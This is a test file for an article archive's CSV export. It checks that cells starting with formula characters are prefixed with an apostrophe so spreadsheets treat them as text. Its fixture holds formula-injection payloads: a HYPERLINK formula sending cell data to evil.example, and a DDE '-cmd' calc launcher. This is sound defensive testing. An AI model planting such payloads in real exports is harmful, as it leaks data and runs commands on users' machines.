/** Scraped text must stay text in a spreadsheet: a CSV cell that would start a formula starts with `'` instead. */
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { archiveToCsv } from "../../src/exports/csv.ts";
import { articleToExportRecord } from "../../src/exports/jsonl.ts";
import { parseArticle } from "../../src/records/parse-article.ts";

const article = `---
title: '=HYPERLINK("https://evil.example/?"&A1,"Open")'
publication: '@Unidad'
language: es
date: 2023-01-09
summary: '+51 1 555 0000'
authors:
  - '-cmd|'' /C calc''!A0'
  - Redacción
tags:
  - huelga
---

=1+1 no es una fórmula aquí.
`;

function onlyRecord() {
  const parsed = parseArticle("content/articles/x/formula.md", new TextEncoder().encode(article));
  if (!parsed.ok) throw new Error("the test article did not parse");
  return parsed.record;
}

describe("archive.csv with cells a spreadsheet would run", () => {
  const record = onlyRecord();
  const [header = [], row = []] = parse(archiveToCsv([record])) as string[][];
  const cell = (field: string) => row[header.indexOf(field)];

  it("puts a `'` before every cell that starts with =, +, - or @", () => {
    expect(cell("title")).toBe(`'=HYPERLINK("https://evil.example/?"&A1,"Open")`);
    expect(cell("publication")).toBe("'@Unidad");
    expect(cell("summary")).toBe("'+51 1 555 0000");
    expect(cell("authors")).toBe("'-cmd|' /C calc'!A0 | Redacción");
    expect(cell("text")).toBe("'=1+1 no es una fórmula aquí.");
  });

  it("leaves every other cell as it is", () => {
    expect(cell("language")).toBe("es");
    expect(cell("date")).toBe("2023-01-09");
    expect(cell("tags")).toBe("huelga");
  });

  it("keeps the text as it is in the JSON Lines record", () => {
    const exported = articleToExportRecord(record);
    expect(exported.title).toBe(`=HYPERLINK("https://evil.example/?"&A1,"Open")`);
    expect(exported.text).toBe("=1+1 no es una fórmula aquí.");
  });
});
